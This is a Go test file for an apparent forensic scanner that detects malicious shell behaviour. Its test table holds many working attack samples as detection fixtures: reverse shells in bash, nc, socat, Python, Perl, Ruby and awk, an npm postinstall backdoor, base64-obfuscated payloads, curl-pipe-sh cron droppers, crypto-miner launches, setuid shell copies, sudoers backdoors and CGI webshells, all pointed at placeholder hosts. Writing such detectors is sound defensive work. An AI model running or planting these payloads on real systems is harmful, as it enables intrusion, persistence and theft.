package shell

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/forensics"
)

func scanFile(p, text string) []audit.Finding {
	return New().Content(audit.File{Layer: 1, Entry: &forensics.Entry{Path: p, Size: int64(len(text))}}, []byte(text))
}

func rules(fs []audit.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule)
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func dump(fs []audit.Finding) string {
	var b strings.Builder
	for _, f := range fs {
		fmt.Fprintf(&b, "  %s %s %s %v %q [%s]\n", f.Severity, f.Rule, f.Category, f.Labels, f.Title, f.Evidence)
	}
	return b.String()
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestShellBehaviour(t *testing.T) {
	tests := []struct {
		name, path, text string
		want             []string // rules, sorted
		cat              audit.Category
		label            audit.Category
	}{
		{name: "bash dev tcp", path: "/usr/local/bin/u", text: "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n", want: []string{RuleDevTCP}, cat: audit.CategoryReverseShell},
		// Redirections split by a blank: bash rejects the line, but it is a reverse shell someone meant to run.
		{name: "dev tcp split dup in a unit's bash -c", path: "/etc/systemd/system/x.service", text: "[Service]\nType=oneshot\nExecStart=/bin/bash -c \"bash -i > & /dev/tcp/10.9.179.188/1234 0>&1\"\n[Install]\nWantedBy=multi-user.target\n", want: []string{RuleDevTCP}},
		{name: "dev tcp split dup in a script", path: "/opt/x.sh", text: "#!/bin/bash\nif true; then\nbash -i > &/dev/tcp/203.0.113.45/4444 0< &1\nfi\n", want: []string{RuleDevTCP}},
		{name: "dev tcp split dup in history", path: "/root/.bash_history", text: "cd /tmp\nsh -i >  & /dev/udp/203.0.113.45/53 0>&1\nls\n", want: []string{RuleDevTCP}},
		{name: "split dup to a log", path: "/opt/x.sh", text: "#!/bin/bash\nif true; then\nmake all > & build.log\nfi\n"},
		{name: "dev tcp vars", path: "/opt/x.sh", text: "H=203.0.113.45\nP=4444\nbash -i >& /dev/tcp/$H/$P 0>&1\n", want: []string{RuleDevTCP}},
		{name: "exec fd", path: "/root/.bash_history", text: "0<&196;exec 196<>/dev/tcp/attacker.example.net/9001; sh <&196 >&196 2>&196\n", want: []string{RuleDevTCP}},
		{name: "read loop", path: "/opt/r.sh", text: "exec 5<>/dev/tcp/203.0.113.9/80\ncat <&5 | while read line; do $line 2>&5 >&5; done\n", want: []string{RuleCmdLoop}},
		{name: "nc -e", path: "/opt/k.sh", text: "#!/bin/sh\nnc -e /bin/sh 203.0.113.45 4444\n", want: []string{RuleNetExec}},
		{name: "ncat ssl -e", path: "/root/notes", text: "ncat 198.51.100.7 443 --ssl -e /bin/bash\n", want: []string{RuleNetExec}},
		{name: "ncat --exec abbreviated", path: "/usr/local/bin/s", text: "#!/bin/sh\nncat --exe /bin/bash 203.0.113.9 4444\n", want: []string{RuleNetExec}},
		{name: "nc --e", path: "/usr/local/bin/s", text: "#!/bin/sh\nnc --e /bin/sh 203.0.113.9 4444\n", want: []string{RuleNetExec}},
		{name: "ncat --sh abbreviated with a value", path: "/usr/local/bin/s", text: "#!/bin/sh\nncat --sh='bash -i' 203.0.113.9 4444\n", want: []string{RuleNetExec}},
		{name: "package built with a shell in its postinst", path: "/opt/mkdeb.sh", text: "#!/bin/bash\nP=/tmp/pkg-$RANDOM\nmkdir -p $P/DEBIAN\ncat > $P/DEBIAN/postinst <<EOF\n#!/bin/sh\nbash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' &\nEOF\nchmod 755 $P/DEBIAN/postinst\ndpkg-deb --build $P /tmp/helper.deb\n", want: []string{RuleDevTCP}, label: audit.CategoryPersistence},
		{name: "package built with a plain postinst", path: "/opt/mkdeb.sh", text: "#!/bin/bash\nP=/tmp/pkg\nmkdir -p $P/DEBIAN\nprintf '#!/bin/sh\\nldconfig\\n' > $P/DEBIAN/postinst\ndpkg-deb --build $P /tmp/helper.deb\n"},
		// What a method reads from the socket and returns, handed to another method's parameter.
		{name: "python class with reliable receive", path: "/opt/bd.py", text: "import socket, subprocess, json\nclass Backdoor:\n    def __init__(self, ip, port):\n        self.conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n        self.conn.connect((ip, port))\n    def reliable_send(self, data):\n        self.conn.send(json.dumps(data).encode())\n    def reliable_receive(self):\n        buf = b''\n        while True:\n            try:\n                buf = buf + self.conn.recv(1024)\n                return json.loads(buf)\n            except ValueError:\n                continue\n    def execute(self, c):\n        return subprocess.check_output(c, shell=True)\n    def run(self):\n        while True:\n            order = self.reliable_receive()\n            self.reliable_send(self.execute(order).decode())\nBackdoor('203.0.113.9', 4444).run()\n", want: []string{RulePython}},
		{name: "python functions passing the command along", path: "/usr/lib/python3/dist-packages/.sync.py", text: "import socket, subprocess\ndef get_order(s):\n    return s.recv(4096).decode().strip()\ndef work(what):\n    return subprocess.getoutput(what)\ns = socket.create_connection(('203.0.113.9', 443))\nwhile True:\n    s.sendall(work(get_order(s)).encode())\n", want: []string{RulePython}},
		{name: "python server running a fixed command per request", path: "/opt/status.py", text: "import socket, subprocess\ndef read_request(conn):\n    return conn.recv(1024)\ndef status():\n    return subprocess.check_output(['uptime'])\nsrv = socket.socket()\nsrv.bind(('0.0.0.0', 9000))\nsrv.listen(1)\nwhile True:\n    c, _ = srv.accept()\n    req = read_request(c)\n    c.send(status())\n    c.close()\n"},
		// A shell on a pseudo-terminal, its other end relayed to and from the socket.
		{name: "python pty relay with select", path: "/var/tmp/.x/t.py", text: "import os, pty, socket, ssl, subprocess, select\nSHELL = ['/bin/bash', '--noprofile']\ndef link():\n    s = ssl.wrap_socket(socket.socket(socket.AF_INET, socket.SOCK_STREAM))\n    s.connect(('203.0.113.5', 443))\n    return s\ns = link()\nm, sl = pty.openpty()\np = subprocess.Popen(SHELL, stdin=sl, stdout=sl, stderr=sl, preexec_fn=os.setsid)\nwhile p.poll() is None:\n    r, _, _ = select.select([s, m], [], [])\n    if s in r:\n        d = s.recv(1024)\n        if not d:\n            break\n        os.write(m, d)\n    else:\n        s.send(os.read(m, 2048))\n", want: []string{RulePython}},
		{name: "python pty fork relay", path: "/usr/local/lib/python3/dist-packages/.cache.py", text: "import os, pty, socket, threading\nc = socket.create_connection(('198.51.100.4', 8443))\npid, fd = pty.fork()\nif pid == 0:\n    os.execv('/bin/sh', ['sh', '-i'])\ndef up():\n    while True:\n        b = os.read(fd, 1024)\n        c.sendall(b)\nthreading.Thread(target=up, daemon=True).start()\nwhile True:\n    b = c.recv(1024)\n    os.write(fd, b)\n", want: []string{RulePython}},
		{name: "python os.openpty relay", path: "/opt/t2.py", text: "import os, socket, subprocess\nsrv = socket.socket()\nsrv.bind(('0.0.0.0', 2222))\nsrv.listen(1)\nconn, _ = srv.accept()\nmaster, slave = os.openpty()\nsubprocess.Popen('/bin/bash -i', shell=True, stdin=slave, stdout=slave, stderr=slave)\nwhile True:\n    data = conn.recv(512)\n    os.write(master, data)\n    conn.send(os.read(master, 4096))\n", want: []string{RulePython}},
		{name: "python pty for a monitor's top to a collector", path: "/opt/mon/top2net.py", text: "import os, pty, socket, subprocess\ns = socket.create_connection(('10.0.0.5', 5140))\nm, sl = pty.openpty()\nsubprocess.Popen(['/usr/bin/top', '-b', '-n', '1'], stdout=sl)\ns.sendall(os.read(m, 65536))\n"},
		// npm runs a package's install scripts on whoever installs it.
		{name: "npm postinstall node reverse shell", path: "/srv/app/node_modules/padding-utils/package.json", text: "{\n  \"name\": \"padding-utils\",\n  \"version\": \"2.0.1\",\n  \"scripts\": {\n    \"test\": \"node test\",\n    \"postinstall\": \"node -e 'var n=require(\\\"net\\\"),c=require(\\\"child_process\\\"),s=c.spawn(\\\"/bin/sh\\\",[]),k=new n.Socket();k.connect(4444,\\\"203.0.113.7\\\",function(){k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k)})'\"\n  }\n}\n", want: []string{RuleNode}},
		{name: "npm preinstall dev tcp", path: "/usr/lib/node_modules/colors-x/package.json", text: "{\"name\":\"colors-x\",\"scripts\":{\"preinstall\":\"bash -c 'bash -i >& /dev/tcp/198.51.100.9/443 0>&1' || true\"}}", want: []string{RuleDevTCP}},
		{name: "npm install scripts of a native module", path: "/srv/app/node_modules/fast-png/package.json", text: "{\n  \"name\": \"fast-png\",\n  \"scripts\": {\n    \"install\": \"node-gyp rebuild || node scripts/fallback.js\",\n    \"postinstall\": \"node scripts/check.js && curl -fsS https://example.org/ping >/dev/null || true\",\n    \"test\": \"nc -z localhost 8080\"\n  }\n}\n"},
		{name: "ncat --s is no --sh-exec", path: "/usr/local/bin/s", text: "#!/bin/sh\nncat --s /bin/bash 203.0.113.9 4444\n"},
		{name: "combined flags", path: "/opt/k.sh", text: "#!/bin/sh\nnc -nve /bin/bash 203.0.113.45 4444\n", want: []string{RuleNetExec}},
		{name: "mkfifo one line", path: "/tmp/x.sh", text: "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\n", want: []string{RuleFifo}},
		{name: "mkfifo two lines", path: "/usr/local/bin/sync", text: "#!/bin/sh\nmkfifo /tmp/.f\ncat /tmp/.f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/.f\n", want: []string{RuleFifo}},
		{name: "mknod telnet", path: "/tmp/y.sh", text: "#!/bin/sh\nmknod /tmp/backpipe p && telnet 203.0.113.9 23 0</tmp/backpipe | /bin/bash 1>/tmp/backpipe\n", want: []string{RuleFifo}},
		{name: "socat", path: "/opt/s.sh", text: "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane\n", want: []string{RuleSocat}},
		{name: "socat caps", path: "/opt/s2.sh", text: "#!/bin/sh\nsocat TCP4:198.51.100.7:443 EXEC:/bin/sh\n", want: []string{RuleSocat}},
		{name: "telnet pipe", path: "/opt/t.sh", text: "#!/bin/sh\ntelnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445\n", want: []string{RuleNetPipe}},
		{name: "openssl fifo", path: "/opt/o.sh", text: "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s; rm /tmp/s\n", want: []string{RuleFifo}},
		{name: "IFS for blanks", path: "/usr/local/bin/q", text: "#!/bin/sh\nbash${IFS}-c${IFS}'exec sh -i >& /dev/tcp/203.0.113.45/4444 0>&1'\n", want: []string{RuleDevTCP}},
		{name: "IFS in a program's words", path: "/opt/q2.sh", text: "#!/bin/sh\nnc$IFS-e$IFS/bin/sh$IFS 203.0.113.45 4444\n", want: []string{RuleNetExec}},
		{name: "IFS as a separator only", path: "/opt/q3.sh", text: "#!/bin/sh\nOLD=$IFS\nIFS=:\nfor d in $PATH; do echo \"$d\"; done\nIFS=$OLD\nprintf '%s\\n' a${IFS}b\n", want: nil},
		{name: "busybox shell applet for nc -e", path: "/opt/b.sh", text: "#!/bin/sh\nbusybox nc 203.0.113.45 4444 -e busybox sh\n", want: []string{RuleNetExec}},
		{name: "whois answers evaluated", path: "/opt/w.sh", text: "#!/bin/sh\nR=hello\nwhile :; do R=$(eval \"$(whois -h 203.0.113.45 -p 4343 \"$R\")\" 2>&1); sleep 2; done\n", want: []string{RuleCmdLoop}},
		{name: "finger answers evaluated", path: "/opt/fg.sh", text: "#!/bin/sh\nwhile true; do eval `finger sync@203.0.113.45 | tail -n 1`; sleep 30; done\n", want: []string{RuleCmdLoop}},
		{name: "DNS TXT answers run", path: "/usr/lib/resolved-helper/poll.sh", text: "#!/bin/bash\nwhile true; do\n  cmd=$(dig +short \"$RANDOM.c2.example.net\" TXT | tr -d '\"')\n  bash -c \"$cmd\"\n  sleep 5\ndone\n", want: []string{RuleCmdLoop}},
		{name: "nslookup TXT answer evaluated", path: "/opt/n.sh", text: "#!/bin/sh\nc=`nslookup -type=txt cmd.example.net | grep text | cut -d'\"' -f2`\neval \"$c\"\n", want: []string{RuleCmdLoop}},
		{name: "host -t txt answer run by sh", path: "/opt/h.sh", text: "#!/bin/sh\nhost -t txt t.example.org | sed 's/.*text \"//;s/\"$//' | sh\n", want: []string{RuleNetPipe}},
		{name: "DNS TXT answer printed", path: "/opt/spf.sh", text: "#!/bin/sh\nfor d in example.org example.net; do dig +short TXT \"$d\" | grep spf1; done\n", want: nil},
		{name: "DNS address answer used as a host", path: "/opt/a.sh", text: "#!/bin/sh\nip=$(dig +short A db.internal)\npsql -h \"$ip\" -c 'select 1'\n", want: nil},
		{name: "whois answer printed", path: "/opt/w2.sh", text: "#!/bin/sh\nfor d in example.org example.net; do whois -h whois.example.org \"$d\" | grep -i expir; done\n", want: nil},
		{name: "gawk system() of a line read", path: "/usr/local/bin/gw2", text: "#!/usr/bin/gawk -f\nBEGIN {\n  c2 = \"/inet/tcp/0/198.51.100.20/8443\"\n  while (1) {\n    if ((c2 |& getline cmd) <= 0) break\n    system(cmd)\n  }\n}\n", want: []string{RuleAwk}},
		{name: "gawk getline from the special file into a shell pipe", path: "/usr/local/bin/gw3", text: "#!/usr/bin/gawk -f\nBEGIN {\n  while ((getline line < \"/inet/tcp/0/198.51.100.21/53\") > 0)\n    print line | \"/bin/sh\"\n}\n", want: []string{RuleAwk}},
		{name: "gawk client printing a local daemon's answer", path: "/opt/xcat/post.awk", text: "#!/usr/bin/awk -f\nBEGIN {\n  if (ENVIRON[\"TLS\"]) server = \"openssl s_client -connect \" ENVIRON[\"SRV\"]\n  else server = \"/inet/tcp/0/127.0.0.1/3001\"\n  print \"<request><cmd>list</cmd></request>\" |& server\n  while (server |& getline) {\n    if (match($0, \"<done>\")) { close(server); exit }\n    print $0\n  }\n}\n"},
		{name: "gawk HTTP fetch", path: "/usr/local/bin/fetch.awk", text: "#!/usr/bin/gawk -f\nBEGIN {\n  s = \"/inet/tcp/0/www.example.com/80\"\n  print \"GET / HTTP/1.0\\r\\n\\r\\n\" |& s\n  while ((s |& getline) > 0) print $0\n  close(s)\n}\n"},
		{name: "gawk listening coprocess", path: "/usr/local/bin/gw", text: "#!/usr/bin/gawk -f\nBEGIN {\n  svc = \"/inet/tcp/\" 7070 \"/0/0\"\n  while ((svc |& getline c) > 0) {\n    while ((c |& getline l) > 0) print l |& svc\n    close(c)\n  }\n}\n", want: []string{RuleAwk}},
		{name: "miner run from its release", path: "/opt/m1.sh", text: "#!/bin/sh\nwget -q https://downloads.example.org/pkg.tar.gz\ntar xzf pkg.tar.gz\ncd xmrig-6.21.0\nnohup ./xmrig --config=config.json >/dev/null 2>&1 &\n", want: []string{RuleMinerCommand}},
		{name: "miner renamed in its release directory", path: "/opt/m2.sh", text: "#!/bin/bash\nn=$(head -c 8 /dev/urandom | base64 | tr -dc a-z)\nmv /var/tmp/.d/xmrig-6.22.2/xmrig /var/tmp/.d/xmrig-6.22.2/$n\nnohup /var/tmp/.d/xmrig-6.22.2/$n >/dev/null 2>&1 &\ncrontab -l\n", want: []string{RuleMinerCommand}},
		{name: "miner pool read at run time", path: "/opt/m3.sh", text: "#!/bin/sh\nread -p 'pool: ' pool\nwget -q https://downloads.example.org/w.tgz\n/opt/w/worker --donate-level 1 -o $pool:5352 -u ZEPHYRs1x -a rx/0 -k\n", want: []string{RuleMinerCommand}},
		{name: "launcher written then run", path: "/opt/m4.sh", text: "#!/bin/sh\nwget -q https://downloads.example.org/w.tgz\ncat > /root/go.sh <<EOF\n/root/w/worker -a rx/0 -o $1:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k\nEOF\nchmod +x /root/go.sh\n./go.sh\n", want: []string{RuleMinerCommand}},
		{name: "miner renamed, told by a miner-only option", path: "/opt/m6.sh", text: "#!/bin/sh\ncd /var/tmp/.cache/w\nsetsid ./kworker --cpu-max-threads-hint=75 --donate-level 0 &\n", want: []string{RuleMinerCommand}},
		{name: "miner run by its name, pool in its config", path: "/opt/m7.sh", text: "#!/bin/sh\ncd /srv/w && git pull\n/srv/w/xmrig -c /srv/w/pool.json -B\n", want: []string{RuleMinerCommand}},
		{name: "a miner-only option searched for", path: "/opt/m8.sh", text: "#!/bin/sh\nif ps -eo args | grep -q -- --donate-level; then pkill -f -- --cpu-max-threads-hint; fi\n", want: nil},
		{name: "unit written with an address read at run time", path: "/root/inst.sh", text: "#!/bin/bash\nread -p 'host: ' h\nread -p 'port: ' p\nu=\"/etc/systemd/system/net-sync.service\"\ncat <<EOF > \"$u\"\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/$h/$p 0>&1'\nRestart=always\nEOF\nsystemctl enable --now net-sync\n", want: []string{RuleDevTCP}},
		{name: "unit written with a port read at run time", path: "/root/web.sh", text: "#!/bin/bash\nread -p 'port: ' port\ncat > /etc/systemd/system/web.service <<EOF\n[Service]\nExecStart=/usr/bin/python3 -m http.server $port\nEOF\nsystemctl enable --now web\n", want: nil},
		{name: "miner only named", path: "/opt/m5.sh", text: "#!/bin/sh\nwget -q https://downloads.example.org/list.txt\necho 'xmrig and minerd are not allowed here'\npkill -f xmrig\n", want: nil},
		{name: "unit a generator writes", path: "/usr/lib/systemd/system-generators/net-helper", text: "#!/bin/sh\nout=\"$3\"\ncat > \"$out/net-helper.service\" <<EOF\n[Service]\nExecStart=/usr/bin/socat tcp:203.0.113.9:4444 exec:/bin/bash\nEOF\n", want: []string{RuleSocat}},
		{name: "shell CGI evaluating its query", path: "/usr/lib/cgi-bin/diag.sh", text: "#!/bin/bash\necho 'Content-Type: text/plain'\necho\nc=$(printf '%s' \"$QUERY_STRING\" | sed 's/+/ /g; s/%20/ /g')\neval \"$c\"\n", want: []string{RuleCGI}, cat: audit.CategoryWebshell},
		{name: "shell CGI running a header", path: "/var/www/cgi-bin/t.cgi", text: "#!/bin/sh\nprintf 'Content-Type: text/plain\\n\\n'\nsh -c \"$HTTP_X_TASK\" 2>&1\n", want: []string{RuleCGI}, cat: audit.CategoryWebshell},
		{name: "shell CGI that only prints its query", path: "/usr/lib/cgi-bin/echo.sh", text: "#!/bin/sh\necho 'Content-Type: text/html'\necho\ncase \"$QUERY_STRING\" in\n  status) uptime ;;\n  *) echo \"<p>unknown: $QUERY_STRING</p>\" ;;\nesac\n", want: nil},
		{name: "function", path: "/opt/f.sh", text: "#!/bin/bash\nconnect() {\n  bash -i >& /dev/tcp/$1/$2 0>&1\n}\nwhile true; do connect 203.0.113.9 4444; sleep 60; done\n", want: []string{RuleDevTCP}},
		{name: "var command", path: "/opt/v.sh", text: "#!/bin/bash\nC=\"nc -e /bin/sh\"\n$C 203.0.113.9 4444\n", want: []string{RuleNetExec}},
		{name: "bash -c", path: "/opt/c.sh", text: "#!/bin/sh\nbash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n", want: []string{RuleDevTCP}},
		{name: "base64 pipe", path: "/opt/b.sh", text: "#!/bin/sh\necho " + b64("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1") + " | base64 -d | bash\n", want: []string{RuleDevTCP, RuleDecodeRun}},
		{name: "base64 herestring", path: "/opt/b2.sh", text: "#!/bin/bash\nbase64 -d <<< " + b64("nc -e /bin/sh 203.0.113.9 4444") + " | sh\n", want: []string{RuleNetExec, RuleDecodeRun}},
		{name: "base64 subst", path: "/opt/b3.sh", text: "#!/bin/bash\neval \"$(echo " + b64(b64("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")) + " | base64 -d | base64 --decode)\"\n", want: []string{RuleDevTCP, RuleDecodeRun}},
		{name: "python -c", path: "/app/p.sh", text: "#!/bin/sh\npython3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'\n", want: []string{RulePython}},
		{name: "perl -e", path: "/usr/local/bin/mon2", text: "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"203.0.113.9:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'\n", want: []string{RulePerl}},
		{name: "python with-statement socket, dup2 by keyword", path: "/tmp/.X11-unix/.r/u.py", text: "import socket, os, subprocess\nwith socket.socket(socket.AF_INET, socket.SOCK_STREAM) as conn:\n    conn.connect(('203.0.113.9', 2718))\n    for n in range(3):\n        os.dup2(fd=conn.fileno(), fd2=n)\n    subprocess.call(['/bin/bash', '-i'])\n", want: []string{RulePython}},
		{name: "python with-statement among others, dup2 by keyword", path: "/opt/w.py", text: "import socket as S, os, pty\nwith open('/tmp/log', 'a') as log, S.create_connection(('203.0.113.9', 443)) as c:\n    os.dup2(c.fileno(), fd2=0)\n    os.dup2(c.fileno(), fd2=1)\n    pty.spawn('sh')\n", want: []string{RulePython}},
		{name: "python raw dup2 syscall through ctypes", path: "/opt/c.py", text: "import socket, ctypes, os\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nlibc = ctypes.CDLL(None)\nfor fd in (0, 1, 2):\n    libc.syscall(33, s.fileno(), fd)\nos.execv('/bin/sh', ['sh', '-i'])\n", want: []string{RulePython}},
		{name: "python with-statement socket sending a fixed command's output", path: "/opt/ping.py", text: "import socket, subprocess\nwith socket.create_connection(('192.0.2.10', 9000)) as s:\n    s.sendall(subprocess.check_output(['uptime']))\n    print(s.recv(64))\n"},
		{name: "python dup2 by keyword onto a log descriptor", path: "/opt/log.py", text: "import socket, os, subprocess\nwith socket.socket() as s:\n    s.connect(('192.0.2.10', 514))\n    os.dup2(fd=s.fileno(), fd2=7)\n    subprocess.call(['/usr/bin/logger', '-i', 'up'])\n"},
		{name: "ruby raw dup2 syscall without parentheses", path: "/var/tmp/r.sh", text: "#!/usr/bin/env ruby\nrequire 'socket'\ns = Socket.new 2,1\ns.connect Socket.sockaddr_in 7777, '203.0.113.14'\n[0,1,2].each { |fd| syscall 33, s.fileno, fd }\nexec '/bin/bash -i'\n", want: []string{RuleRuby}},
		{name: "ruby dup3 syscall by its i386 number", path: "/opt/r.rb", text: "require 'socket'\nc = TCPSocket.new('203.0.113.14', 7777)\n3.times { |i| syscall(330, c.fileno, i, 0) }\nexec('sh -i')\n", want: []string{RuleRuby}},
		{name: "ruby getpid syscall beside a socket", path: "/opt/r2.rb", text: "require 'socket'\nc = TCPSocket.new('192.0.2.14', 7777)\npid = syscall 39\nc.puts(pid)\nexec('/bin/sh', '-c', 'true')\n"},
		{name: "perl raw dup2 syscall", path: "/opt/s.pl", text: "use IO::Socket;\nmy $c = IO::Socket::INET->new(PeerAddr => '203.0.113.9:4444');\nsyscall(33, fileno($c), $_) for 0..2;\nexec '/bin/sh -i';\n", want: []string{RulePerl}},
		{name: "cron perl one-liner holding a percent sign", path: "/etc/cron.d/perl-sync", text: "SHELL=/bin/sh\n*/10 * * * * root perl -MIO -e '$p=fork;exit,if($p);foreach my $k(keys %ENV){if($ENV{$k}=~/(.*)/){$ENV{$k}=$1;}}$c=new IO::Socket::INET(PeerAddr,\"203.0.113.20:8888\");STDIN->fdopen($c,r);$~->fdopen($c,w);while(<>){if($_=~ /(.*)/){system $1;}};'\n", want: []string{RulePerl}, cat: audit.CategoryReverseShell, label: audit.CategoryPersistence},
		{name: "cron line with a date format", path: "/etc/cron.d/backup", text: "30 2 * * * root tar czf /var/backups/etc-$(date +%Y%m%d).tgz /etc\n15 3 * * * root find /var/log -name '*.gz' -mtime +30 -delete\n"},
		{name: "setuid copy of bash in a git hook", path: "/srv/repo/.git/hooks/pre-commit", text: "#!/bin/sh\ncp /bin/bash /tmp/bash; chmod +xs /tmp/bash\n", want: []string{RuleSetuidShell}, cat: audit.CategorySUID},
		{name: "setuid copy installed with a mode", path: "/opt/y.sh", text: "#!/bin/sh\ninstall -m 4755 /bin/sh /var/tmp/.s\n", want: []string{RuleSetuidShell}},
		{name: "setuid copy of dash through variables", path: "/opt/z.sh", text: "#!/bin/sh\nS=/bin/dash\nD=/dev/shm/.x\ncp \"$S\" \"$D\" && chmod u+s \"$D\"\n", want: []string{RuleSetuidShell}},
		{name: "setuid interpreter copy by octal mode", path: "/etc/rc.local", text: "#!/bin/sh\ncp /usr/bin/python3.11 /usr/local/share/.py\nchmod 04755 /usr/local/share/.py\nexit 0\n", want: []string{RuleSetuidShell}, label: audit.CategoryPersistence},
		{name: "setuid bit on the system's find", path: "/root/p.sh", text: "#!/bin/sh\nchmod u+s /usr/bin/find\n", want: []string{RuleSetuidShell}},
		{name: "setuid helper of an application installed", path: "/opt/build/install.sh", text: "#!/bin/sh\ninstall -m 4755 build/helper /usr/local/lib/app/helper\nchmod u+s /usr/bin/newuidmap\nchmod 4755 /usr/lib/dbus-1.0/dbus-daemon-launch-helper\n"},
		{name: "setgid directories and a shell copied into a chroot", path: "/opt/build/chroot.sh", text: "#!/bin/sh\nchmod g+s /srv/shared\nchmod 2775 /var/www\ncp /bin/bash /opt/jail/bin/bash && chmod 755 /opt/jail/bin/bash\n"},
		{name: "python shell command split over adjacent literals and an f-string", path: "/usr/lib/systemd/systemd-timechkd.py", text: "import subprocess\ndef back(h, p):\n    subprocess.Popen('wget -q https://downloads.example.org/socat -O /tmp/socat; chmod +x /tmp/socat; /tmp/socat exec:\\'bash -li\\',pty,'\n                     f'stderr,setsid,sigint,sane tcp:{h}:{p}',\n                     shell=True)\n", want: []string{RuleSocat}},
		{name: "python help text over adjacent literals", path: "/usr/lib/python3/dist-packages/tool/cli.py", text: "import subprocess\nHELP = ('usage: tool [--exec CMD]\\n'\n        f'  --exec runs CMD through {\"sh\"}\\n')\nsubprocess.run(['tool-helper', '--version'])\n"},
		{name: "interactive shell piped into openssl, its fifo mistyped", path: "/var/tmp/update.sh", text: "#!/bin/sh\nshell=$(mktemp -u)\nmkfifo \"$shell\"; /bin/sh -i </tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 >\"$shell\"\nrm \"$shell\"\n", want: []string{RuleNetPipe}, cat: audit.CategoryReverseShell},
		{name: "interactive shell piped into nc", path: "/opt/v.sh", text: "#!/bin/sh\nS=/bin/bash\n$S -i 2>&1 | nc 203.0.113.9 4444\n", want: []string{RuleNetPipe}},
		{name: "shell script's output piped into nc", path: "/opt/report.sh", text: "#!/bin/sh\nsh /opt/status.sh 2>&1 | nc -q1 logs.example.org 5140\nbash -c 'uptime' | nc -q1 logs.example.org 5140\n"},
		{name: "awk", path: "/opt/a.sh", text: "#!/bin/sh\nawk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/4444\"; while(42) { do{ printf \"> \" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null\n", want: []string{RuleAwk}},
		{name: "cron nc -e", path: "/etc/cron.d/sync", text: "*/5 * * * * root nc -e /bin/sh 203.0.113.9 4444\n", want: []string{RuleNetExec}, cat: audit.CategoryReverseShell, label: audit.CategoryPersistence},
		{name: "cron curl sh", path: "/etc/cron.d/sync", text: "*/5 * * * * root curl -fsSL http://203.0.113.45/a.sh | sh\n", want: []string{RuleCron}, cat: audit.CategoryPersistence, label: audit.CategoryMalware},
		{name: "user crontab", path: "/var/spool/cron/crontabs/root", text: "@reboot /bin/bash -c 'sh -i >& /dev/tcp/198.51.100.7/53 0>&1'\n", want: []string{RuleDevTCP}, label: audit.CategoryPersistence},
		{name: "crontab installer", path: "/usr/local/bin/setup.sh", text: "#!/bin/sh\n(crontab -l 2>/dev/null; echo \"* * * * * wget -q -O - http://198.51.100.7/s | bash\") | crontab -\n", want: []string{RuleCron}, cat: audit.CategoryPersistence},
		{name: "systemd unit", path: "/etc/systemd/system/update-helper.service", text: "[Service]\nExecStart=/bin/bash -c 'while true; do curl -s http://198.51.100.7/t | bash; sleep 300; done'\n", want: []string{RuleHTTPAgent, RuleSystemd}, cat: audit.CategoryPersistence},
		{name: "systemd reverse", path: "/lib/systemd/system/net-check.service", text: "[Service]\nExecStart=/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'\n", want: []string{RulePython}, label: audit.CategoryPersistence},
		{name: "rc.local", path: "/etc/rc.local", text: "#!/bin/sh -e\n(curl -s http://198.51.100.7/k.sh || wget -q -O- http://198.51.100.7/k.sh) | sh &\nexit 0\n", want: []string{RuleAutostart}, cat: audit.CategoryPersistence},
		{name: "dropper", path: "/start.sh", text: "#!/bin/sh\ncd /dev/shm && wget -q http://198.51.100.7/x86 -O /dev/shm/.kthread && chmod +x /dev/shm/.kthread && /dev/shm/.kthread\n", want: []string{RuleDropRun}},
		{name: "sudoers rule appended from a heredoc", path: "/opt/inst/setup.bash", text: "#!/bin/bash\nuseradd -r -m svcops\ncat >> /etc/sudoers <<EOT\n# ops\nsvcops ALL=(ALL:ALL) NOPASSWD: ALL\nEOT\n", want: []string{RuleSudoers}, cat: audit.CategoryPersistence, label: audit.CategoryRootUser},
		{name: "sudoers drop-in through tee, user read at run time", path: "/usr/local/sbin/grant", text: "#!/bin/sh\nu=$(id -un)\nprintf '%s ALL=(root) NOPASSWD:/bin/bash\\n' \"$u\" | tee /etc/sudoers.d/zz-$u >/dev/null\nchmod 440 /etc/sudoers.d/zz-$u\n", want: []string{RuleSudoers}, cat: audit.CategoryPersistence},
		{name: "sudoers rule echoed for a service account", path: "/root/x.sh", text: "#!/bin/sh\necho 'www-data ALL=NOPASSWD: ALL' >> /etc/sudoers\n", want: []string{RuleSudoers}, cat: audit.CategoryPersistence},
